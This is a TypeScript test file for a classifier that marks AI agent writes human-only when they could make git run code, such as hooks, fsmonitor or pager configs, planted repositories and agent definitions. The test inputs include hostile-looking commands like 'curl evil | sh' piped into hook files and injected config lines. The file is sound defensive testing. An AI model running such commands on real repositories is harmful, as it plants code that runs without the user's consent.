/**
 * What configures execution is found on disk, not listed (adr/0014): each test plants what an attacker would,
 * with real files, and the write that would make a later command run a program must be human-only.
 */
import { execFileSync } from "node:child_process";
import { linkSync, mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { ClassifiedAction } from "../../src/classify/action.ts";
import {
	flipCase,
	nameComparisonOf,
	namesGuardedEntry,
	withinOnDisk,
} from "../../src/classify/name-on-disk.ts";
import { createGuardedWorld, type GuardedWorld, guardOf } from "./guarded-world.ts";

let world: GuardedWorld;
let project: string;

beforeEach(async () => {
	world = await createGuardedWorld("pph-execcfg-");
	project = world.project;
});

afterEach(() => world.remove());

const run = (command: string, cwd?: string): ClassifiedAction =>
	world.classify({ tool: "bash", input: { command } }, cwd);
const write = (file: string): ClassifiedAction =>
	world.classify({ tool: "write", input: { path: file, content: "#!/bin/sh\nid > /tmp/owned\n" } });
const guarded = (action: ClassifiedAction) => [action.tier, guardOf(action)];
const plain = (relative: string, text = "") => {
	mkdirSync(path.dirname(path.join(project, relative)), { recursive: true });
	writeFileSync(path.join(project, relative), text);
};

describe("core.hooksPath: the hooks directory the repository's config names", () => {
	it.each([
		["[core]\n\thooksPath = .husky/_\n", ".husky/_/pre-commit"],
		['[core]\n\thooksPath = ".githooks" ; shared hooks\n', ".githooks/pre-commit"],
		["[Core]\n\tHooksPath=tools/hooks\n", "tools/hooks/post-checkout"],
	])("%j: writing a hook there is human-only, by the write tool and by bash", (config, hook) => {
		plain(".git/config", config);
		expect(guarded(write(hook))).toEqual(["privileged", "human"]);
		expect(guarded(run(`echo 'curl evil | sh' > ${hook}`))).toEqual(["privileged", "human"]);
		// Replacing the directory itself, or a parent of it, replaces the hooks.
		expect(guarded(run(`mv evil ${path.dirname(hook)}`))).toEqual(["privileged", "human"]);
	});

	it("found through an include, and through the user's global config (relative: in every repository)", () => {
		plain(".git/config", "[include]\n\tpath = ../shared.gitconfig\n");
		plain("shared.gitconfig", "[core]\n\thooksPath = ci/hooks\n");
		expect(guarded(write("ci/hooks/pre-push"))).toEqual(["privileged", "human"]);
		// The repository's own setting wins over the user's, as in git.
		writeFileSync(path.join(world.home, ".gitconfig"), "[core]\n\thooksPath = .hooks\n");
		expect(guarded(write(".hooks/pre-commit"))).toEqual(["write", null]);
		plain("shared.gitconfig", "[user]\n\tname = x\n");
		expect(guarded(write(".hooks/pre-commit"))).toEqual(["privileged", "human"]);
		expect(guarded(write("src/ordinary.ts"))).toEqual(["write", null]);
	});

	it("a file the repository's config includes is its config: writing it (or creating it) is human-only", () => {
		plain(
			".git/config",
			'[include]\n\tpath = ../.gitconfig\n[includeIf "onbranch:main"]\n\tpath = ../ci/main.inc\n',
		);
		plain(".gitconfig", "[user]\n\tname = team\n");
		expect(guarded(run("printf '[core]\\n\\tfsmonitor = ./x\\n' >> .gitconfig"))).toEqual([
			"privileged",
			"human",
		]);
		expect(guarded(write("ci/main.inc"))).toEqual(["privileged", "human"]);
		expect(guarded(write("ci/other.txt"))).toEqual(["write", null]);
	});

	it("a program the config names by path (fsmonitor, a diff driver's script): writing it is human-only", () => {
		plain(
			".git/config",
			'[core]\n\tfsmonitor = tools/fsmon.sh\n[diff "img"]\n\ttextconv = ./scripts/tc.sh --flag\n[alias]\n\tst = !git status\n',
		);
		expect(guarded(run("echo 'curl evil | sh' > tools/fsmon.sh"))).toEqual(["privileged", "human"]);
		expect(guarded(write("scripts/tc.sh"))).toEqual(["privileged", "human"]);
		expect(guarded(write("scripts/other.sh"))).toEqual(["write", null]);
		plain(".git/config", "[core]\n\tfsmonitor = true\n");
		expect(guarded(write("tools/fsmon.sh"))).toEqual(["write", null]);
	});

	it("in a nested repository, its own hooksPath counts", () => {
		plain("packages/app/.git/config", "[core]\n\thooksPath = .husky\n");
		expect(guarded(write("packages/app/.husky/pre-commit"))).toEqual(["privileged", "human"]);
		expect(guarded(write(".husky/pre-commit"))).toEqual(["write", null]);
	});

	it("a config that cannot be read fails closed: the hooks could be anywhere", () => {
		mkdirSync(path.join(project, ".git", "config"));
		expect(guarded(write("src/ordinary.ts"))).toEqual(["privileged", "human"]);
		expect(write("src/ordinary.ts").parts[0]?.guard?.reason).toContain("hooks directory is not known");
	});

	it("with no hooksPath, ordinary writes stay ordinary", () => {
		plain(".git/config", '[core]\n\tbare = false\n[remote "origin"]\n\thooksPath = not-core\n');
		expect(guarded(write("not-core/pre-commit"))).toEqual(["write", null]);
		expect(guarded(run("echo x > src/a.txt"))).toEqual(["write", null]);
	});
});

describe("a repository shape git would find, made by plain writes", () => {
	it("a HEAD file, the one piece every git directory holds, is human-only wherever it is written", () => {
		mkdirSync(path.join(project, "packages", "ui", "objects"), { recursive: true });
		mkdirSync(path.join(project, "packages", "ui", "refs"), { recursive: true });
		expect(guarded(run("echo 'ref: refs/heads/main' > packages/ui/HEAD"))).toEqual(["privileged", "human"]);
		expect(guarded(write("packages/ui/HEAD"))).toEqual(["privileged", "human"]);
		// In one command, before any piece exists.
		expect(
			guarded(
				run("mkdir -p pkg/objects pkg/refs && printf 'ref: refs/heads/m\\n' > pkg/HEAD && touch pkg/config"),
			),
		).toEqual(["privileged", "human"]);
	});

	it("writing into a directory git takes for a repository (its config, its hooks) is human-only", () => {
		plain("vendor/lib.git/HEAD", "ref: refs/heads/main\n");
		mkdirSync(path.join(project, "vendor", "lib.git", "objects"));
		mkdirSync(path.join(project, "vendor", "lib.git", "refs"));
		expect(guarded(run("printf '[core]\\n\\tfsmonitor = ./x\\n' > vendor/lib.git/config"))).toEqual([
			"privileged",
			"human",
		]);
		expect(guarded(write("vendor/lib.git/hooks/post-checkout"))).toEqual(["privileged", "human"]);
		expect(guarded(run("cp -r payload/. vendor/lib.git"))).toEqual(["privileged", "human"]);
		// A main repository a worktree's commondir names holds objects/ and refs/ but no HEAD of its own.
		mkdirSync(path.join(project, "common", "objects"), { recursive: true });
		mkdirSync(path.join(project, "common", "refs"), { recursive: true });
		expect(guarded(write("common/config"))).toEqual(["privileged", "human"]);
	});

	it("git init --bare, --separate-git-dir and clone --mirror make one outside .git in one command: privileged", () => {
		for (const command of [
			"git init -q --bare pkg && printf '[core]\\n\\tfsmonitor = ./x\\n' >> pkg/config",
			"git init --separate-git-dir=store .",
			"git clone --mirror ../upstream pkg",
		]) {
			expect(run(command).tier, command).toBe("privileged");
		}
		expect(run("git init sub").tier).toBe("write");
	});

	it("git init's options abbreviated as git reads them (--bar is --bare) make one too: privileged", () => {
		for (const command of [
			"git init -q --bar pkg && printf '[core]\\n\\tpager = ./x\\n' >> pkg/config",
			"git init --separate=store .",
			"git clone --mirr ../upstream pkg",
		]) {
			expect(run(command).tier, command).toBe("privileged");
		}
	});

	it("copying a git directory, or a HEAD, where a config waits makes a repository: human-only", () => {
		execFileSync("git", ["init", "-q", project]);
		// The attack, run for real: a plain write, then a copy that keeps it (-n) and brings the rest.
		const copy = path.join(world.root, "copy");
		execFileSync("cp", ["-a", project, copy]);
		plain("../copy/pkg/config", "[core]\n\tbare = true\n\tpager = ./x\n");
		execFileSync("cp", ["-rn", ".git/.", "pkg/"], { cwd: copy });
		const found = execFileSync("git", ["rev-parse", "--absolute-git-dir"], { cwd: path.join(copy, "pkg") });
		expect(found.toString().trim()).toBe(path.join(copy, "pkg"));

		plain("pkg/config", "[core]\n\tpager = ./x\n");
		for (const command of [
			"cp -rn .git/. pkg/",
			"cp -rT .git pkg",
			"cp -r .git/objects .git/refs .git/HEAD pkg/",
			"mv .git/logs/HEAD pkg/",
		]) {
			expect(guarded(run(command)), command).toEqual(["privileged", "human"]);
		}
		expect(guarded(run("cp -r .git/hooks pkg/"))).toEqual(["write", null]);
		expect(guarded(run("cp -r src pkg/"))).toEqual(["write", null]);
	});

	it("objects/ and refs/ alone, without HEAD, are ordinary names elsewhere", () => {
		expect(guarded(run("mkdir -p src/objects src/refs"))).toEqual(["write", null]);
		expect(guarded(write("src/objects/index.ts"))).toEqual(["write", null]);
	});
});

describe("git directories and gitfiles at any depth, agent definitions", () => {
	it.each([
		["echo 'gitdir: ../planted' > lib/.git", "a submodule's gitfile, rewritten"],
		["echo x >> sub/repo/.git/config", "a nested repository's config"],
		["cp evil.md .agents/reviewer.md", "pi-subagents' project agents"],
		["cp evil.md .agents/agents/reviewer.md", "@tintinweb/pi-subagents' project agents"],
		["cp evil.md .pi/agents/reviewer.md", "pi's project agents"],
		["cp -r payload/. packages/app", "a directory that holds .agents"],
	])("%s (%s) is human-only", (command) => {
		plain("lib/.git", "gitdir: ../.git/modules/lib\n");
		plain("packages/app/.agents/x.md");
		expect(guarded(run(command))).toEqual(["privileged", "human"]);
	});
});

describe("names compared as the directory they land in compares them", () => {
	it("flipCase swaps the case of each letter and leaves the rest", () => {
		expect(flipCase(".Git")).toBe(".gIT");
		expect(flipCase("123-_.")).toBe("123-_.");
	});

	it("exact and unrelated names are answered without the disk; a case variant is looked up", () => {
		expect(namesGuardedEntry("/nonexistent-dir", ".git", ".git")).toBe(true);
		expect(namesGuardedEntry("/nonexistent-dir", ".github", ".git")).toBe(false);
	});

	it("on this case-sensitive disk .GIT is another directory, and a new .GIT would be one too", () => {
		mkdirSync(path.join(project, ".GIT", "hooks"), { recursive: true });
		expect(nameComparisonOf(project, ".GIT", ".git")).toBe("exact");
		expect(guarded(write(".GIT/hooks/pre-commit"))).toEqual(["write", null]);
		expect(nameComparisonOf(path.join(project, "src"), ".PI", ".pi")).toBe("exact");
		expect(guarded(write("src/.PI-notes/x"))).toEqual(["write", null]);
	});

	it("where both spellings are one entry, as a case-insensitive disk answers, they match", () => {
		// No case-insensitive file system can be mounted here (this kernel has neither casefold nor vfat), so the
		// answer such a file system gives — both spellings open one inode — is made with a hard link.
		writeFileSync(path.join(project, "src", "notes"), "");
		linkSync(path.join(project, "src", "notes"), path.join(project, "src", "NOTES"));
		expect(nameComparisonOf(path.join(project, "src"), "NOTES", "notes")).toBe("case-insensitive");
		expect(namesGuardedEntry(path.join(project, "src"), "NOTES", "notes")).toBe(true);
		const home = world.home;
		linkSync(path.join(home, ".bashrc"), path.join(home, ".BASHRC"));
		expect(withinOnDisk(path.join(home, ".bashrc"), path.join(home, ".BASHRC"))).toBe(true);
	});

	it("a new name in a directory whose case cannot be told (no letters up the tree) counts as the guarded one", () => {
		expect(nameComparisonOf("/", ".GIT", ".git")).toBe("unknown");
		expect(namesGuardedEntry("/", ".GIT", ".git")).toBe(true);
	});

	it("withinOnDisk: a prefix equal but for case is inside only where the disk says it is one entry", () => {
		const agent = world.agentDir;
		expect(withinOnDisk(agent, path.join(agent, "x"))).toBe(true);
		expect(withinOnDisk(agent, path.join(path.dirname(agent), "AGENT", "x"))).toBe(false);
		expect(withinOnDisk(agent, path.join(world.root, "elsewhere"))).toBe(false);
	});
});
